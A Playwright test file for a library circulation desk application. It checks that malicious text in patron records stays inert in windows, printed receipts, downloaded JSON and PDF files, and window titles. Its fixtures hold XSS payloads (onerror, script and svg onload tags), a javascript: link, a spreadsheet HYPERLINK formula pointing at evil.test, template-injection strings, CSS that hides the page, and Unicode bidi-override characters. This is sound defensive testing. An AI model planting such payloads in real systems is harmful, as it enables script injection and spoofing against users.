// Text that strangers typed: markup, links, letters that turn the line round, formulas. It is shown as text, kept to the
// letter, and stands in the patron data file as it is.
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { cardOf } from '../../drive/central.ts';
import { readPdf } from '../../drive/pdf.ts';
import { press } from '../../drive/person.ts';
import { expect, test } from './attacked.ts';

// Playwright takes a navigation that was refused for one that may yet come, and waits: so not after those attacks.
test.use({ apart: 'text' });
test.describe.configure({ mode: 'serial' });

const TEXTS = {
  markup: `<img src=x onerror="globalThis.attackRan=true"><script>globalThis.attackRan=true</script>`,
  link: 'https://evil.test/?click=me javascript:alert(1)',
  override: 'Lind\u202Eqvist\u2066\u200F',
  formula: `=HYPERLINK("https://evil.test/"&A1;"x")`,
  template: '{{ constructor.constructor("globalThis.attackRan=true")() }} ${7*7} %s %00',
  style: `</style></span><style>@page{size:40mm 40mm}*{display:none!important}</style>`,
  script: `'"><svg/onload=globalThis.attackRan=true>//`,
};
const TITLE = `${TEXTS.style}${'T'.repeat(300)}${TEXTS.override}`;
/** What was typed into one field each, and holds the letters that turn a line. */
const TURNING = [TITLE, `${TEXTS.override}${TEXTS.script}`];

test('is shown as text in the windows, in every field that takes text', async ({ attacked }) => {
  const { desk, colleague, patron, window } = attacked;
  const { markup, link, override, formula, template, style, script } = TEXTS;
  await colleague.saveSection(patron.id, 'personal', {
    givenName: markup,
    familyName: `${override}${script}`,
  });
  await colleague.saveSection(patron.id, 'address', { line1: link, line2: template, town: formula });
  await colleague.saveSection(patron.id, 'note', { staffNote: `${markup}\n${formula}\n${link}\n${style}` });
  const { v7 } = await import('uuid');
  const loan = { id: v7(), title: TITLE, itemBarcode: '1', dueAt: '2099-01-01T10:00:00Z' };
  expect((await colleague.act('POST', `/patrons/${patron.id}/loans`, loan)).status).toBe(201);
  const blocked = await colleague.act('POST', `/patrons/${patron.id}/blocks`, {
    id: v7(),
    comment: `${script} ${template} ${link}`,
  });
  expect(blocked.status).toBe(201);
  const links = async (page: typeof window) => page.locator('a[href]').count();
  const [before, beforeOnDesk] = [await links(window), await links(desk.desk)];

  await desk.desk.evaluate(() => globalThis.window.circdesk.sync.now({}));
  for (const text of [markup, link, override, script, template, formula])
    await expect(window.locator('body')).toContainText(text, { useInnerText: false });
  await desk.search(cardOf(patron));
  await expect(desk.hit(cardOf(patron))).toContainText(markup);
  for (const page of [desk.desk, window]) {
    expect(await page.locator('img, body script, body svg[onload], iframe, object').count()).toBe(0);
    expect(await page.evaluate(() => 'attackRan' in globalThis)).toBe(false);
  }
  expect([await links(window), await links(desk.desk)]).toEqual([before, beforeOnDesk]);
});

test('that turns the line round stays within itself: what stands beside it is not turned', async ({
  attacked,
}) => {
  const { desk, patron, window } = attacked;
  /** How many times it stands in there, and the other words in the lines that it turns. */
  const lines = (page: typeof window) =>
    page.evaluate(
      ({ override, typed }) => {
        const turned = (text: Node): string[] => {
          let at = text.parentElement;
          for (; at && /^(inline|contents)$/.test(getComputedStyle(at).display); at = at.parentElement)
            if (/isolate/.test(getComputedStyle(at).unicodeBidi)) break;
          const beside = typed.reduce((rest, one) => rest.replaceAll(one, ''), at?.textContent ?? '').trim();
          return /[\p{L}\p{N}]/u.test(beside) ? [beside] : [];
        };
        const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
        const found: Node[] = [];
        for (let node = walker.nextNode(); node; node = walker.nextNode())
          if (node.textContent?.includes(override)) found.push(node);
        return { times: found.length, turned: found.flatMap(turned) };
      },
      { override: TEXTS.override, typed: [...TURNING, TEXTS.markup] },
    );
  await desk.search(cardOf(patron));
  await expect(desk.hit(cardOf(patron))).toContainText(TEXTS.override);
  for (const page of [desk.desk, window]) {
    const { times, turned } = await lines(page);
    expect(times).toBeGreaterThan(0);
    expect(turned).toEqual([]);
    // It would be seen.
    await page.evaluate((text) => {
      const line = Object.assign(document.createElement('p'), { id: 'bare' });
      line.append(Object.assign(document.createElement('span'), { textContent: text }), ' (staff)');
      document.body.append(line);
    }, TURNING[1]);
    expect((await lines(page)).turned).toEqual(['(staff)']);
    await page.evaluate(() => document.getElementById('bare')?.remove());
  }
  // In a list, and on paper.
  await window.getByRole('tab', { name: 'Loans' }).click();
  await expect(window.getByRole('tabpanel')).toContainText(TEXTS.override);
  expect((await lines(window)).turned).toEqual([]);
  await window.getByRole('tab', { name: 'Patron data' }).click();
  await press(window, 'Control+p');
  await expect(window.locator('.receipt')).toContainText(TITLE);
  expect((await lines(window)).turned).toEqual([]);
  await press(window, 'Escape');
});

test('takes nothing beyond the paper of a status receipt, and hides nothing of it', async ({ attacked }) => {
  const { window } = attacked;
  await press(window, 'Control+p');
  for (const paper of ['A4', 'Receipt printer, 80 mm']) {
    await window.getByLabel('Paper').selectOption({ label: paper });
    const receipt = window.locator('.receipt');
    await expect(receipt).toContainText(TEXTS.style);
    const beyond = await receipt.evaluate((sheet) => {
      const { right, width } = sheet.getBoundingClientRect();
      const parts = [...sheet.querySelectorAll('*')].map((part) => part.getBoundingClientRect());
      return width < 100 ? ['nothing is left'] : parts.filter((part) => part.right > right + 1);
    });
    expect(beyond, paper).toEqual([]);
  }
  await press(window, 'Escape');
});

test('stays on the paper of the list of what was done here, and is shown as text there', async ({
  attacked,
}) => {
  const { desk, window } = attacked;
  const page = desk.desk;
  const comment = { comment: 'Took the till.' };
  const blocked = await window.evaluate((args) => globalThis.window.circdesk.patron.block(args), comment);
  expect(blocked).toMatchObject({ ok: true });
  await page.getByRole('button', { name: 'Sync', exact: true }).click();
  const row = page.getByRole('listitem').filter({ hasText: 'Confirmed' });
  // A sentence names the patron without what would turn it.
  for (const text of [TEXTS.markup, 'Lindqvist', TEXTS.script])
    await expect(row).toContainText(text, { useInnerText: false });
  expect(await row.locator('img, script, svg[onload]').count()).toBe(0);
  await page.emulateMedia({ media: 'print' });
  const beyond = await row.evaluate((one) => {
    const texts = [...one.querySelectorAll('*')].map((part) => part.getBoundingClientRect().right);
    return Math.max(...texts) - one.getBoundingClientRect().right;
  });
  expect(beyond).toBeLessThan(1);
  await page.emulateMedia({ media: null });
});

test('stands in the files to the letter, and their name and the window’s title hold none of it', async ({
  attacked,
}) => {
  const { desk, folders, window } = attacked;
  await window.getByRole('button', { name: 'Download patron data' }).click();
  await expect(window.getByRole('button', { name: 'Show in folder' })).toBeVisible();
  const name = (await readdir(folders.downloads)).find((one) => one.endsWith('.json')) ?? '';
  expect(name).toMatch(/^patron-data-[\d-]+-[0-9a-f]+\.json$/);
  const text = await readFile(join(folders.downloads, name), 'utf8');
  const personal = (JSON.parse(text) as { patron: { personal: Record<string, string> } }).patron.personal;
  expect(personal).toMatchObject({ givenName: TEXTS.markup, familyName: `${TEXTS.override}${TEXTS.script}` });
  for (const letters of [TEXTS.formula, TEXTS.link])
    expect(text).toContain(JSON.stringify(letters).slice(1, -1));
  const pdf = await readPdf(await readFile(join(folders.downloads, name.replace('.json', '.pdf'))));
  for (const { width, height } of pdf.pages)
    expect([width / 72, height / 72].map(Math.round)).toEqual([8, 12]);
  const printed = pdf.pages.map((page) => page.text.replace(/\s/g, '')).join('');
  for (const letters of [TEXTS.markup, TEXTS.style, TEXTS.formula])
    expect(printed).toContain(letters.replace(/\s/g, ''));
  const titles = await desk.app.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows().map((w) => w.getTitle()),
  );
  expect(new Set(titles)).toEqual(new Set(['Circdesk']));
});
